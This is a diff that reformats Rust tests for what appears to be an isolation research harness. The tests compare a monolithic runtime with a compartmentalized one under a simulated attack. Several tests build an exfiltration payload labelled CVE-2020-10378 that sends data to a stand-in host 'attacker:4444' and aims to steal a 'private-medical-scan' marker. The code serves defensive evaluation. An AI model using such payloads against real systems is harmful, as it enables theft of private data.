@@ -89,7 +89,13 @@ mod tests {
     #[test]
     fn benign_session_displays_everything() {
         let mut rt = MonolithicRuntime::original(standard_registry());
-        let r = run(&mut rt, &ViewerConfig { files: files(), evil_at: None });
+        let r = run(
+            &mut rt,
+            &ViewerConfig {
+                files: files(),
+                evil_at: None,
+            },
+        );
         assert_eq!(r.displayed, 3);
     }
 
@@ -99,23 +105,29 @@ mod tests {
         // Probe for the recent-list address.
         let addr = {
             let mut p = MonolithicRuntime::original(standard_registry());
-            let r = run(&mut p, &ViewerConfig { files: files(), evil_at: None });
+            let r = run(
+                &mut p,
+                &ViewerConfig {
+                    files: files(),
+                    evil_at: None,
+                },
+            );
             p.objects.meta(r.recent).unwrap().buffer.unwrap().0
         };
-        let payload = payloads::exfiltrate(
-            "CVE-2020-10378",
-            addr.0,
-            40,
-            "attacker:4444",
-        );
+        let payload = payloads::exfiltrate("CVE-2020-10378", addr.0, 40, "attacker:4444");
         let r = run(
             &mut rt,
-            &ViewerConfig { files: files(), evil_at: Some((1, payload)) },
+            &ViewerConfig {
+                files: files(),
+                evil_at: Some((1, payload)),
+            },
         );
         let log = rt.exploit_log().to_vec();
         let (kernel, objects, host) = rt.attack_view();
         let v = judge(
-            &AttackGoal::Exfiltrate { marker: b"private-medical-scan".to_vec() },
+            &AttackGoal::Exfiltrate {
+                marker: b"private-medical-scan".to_vec(),
+            },
             kernel,
             objects,
             host,
@@ -130,13 +142,22 @@ mod tests {
         let mut rt = Runtime::install(standard_registry(), Policy::freepart());
         let addr = {
             let mut p = Runtime::install(standard_registry(), Policy::freepart());
-            let r = run(&mut p, &ViewerConfig { files: files(), evil_at: None });
+            let r = run(
+                &mut p,
+                &ViewerConfig {
+                    files: files(),
+                    evil_at: None,
+                },
+            );
             p.objects.meta(r.recent).unwrap().buffer.unwrap().0
         };
         let payload = payloads::exfiltrate("CVE-2020-10378", addr.0, 40, "attacker:4444");
         let r = run(
             &mut rt,
-            &ViewerConfig { files: files(), evil_at: Some((1, payload)) },
+            &ViewerConfig {
+                files: files(),
+                evil_at: Some((1, payload)),
+            },
         );
         // The read faults (recent list lives in the host, not the
         // loading agent) AND the loading agent's filter has no send —
@@ -144,7 +165,9 @@ mod tests {
         let log = rt.exploit_log.clone();
         let (kernel, objects, host) = rt.attack_view();
         let v = judge(
-            &AttackGoal::Exfiltrate { marker: b"private-medical-scan".to_vec() },
+            &AttackGoal::Exfiltrate {
+                marker: b"private-medical-scan".to_vec(),
+            },
             kernel,
             objects,
             host,
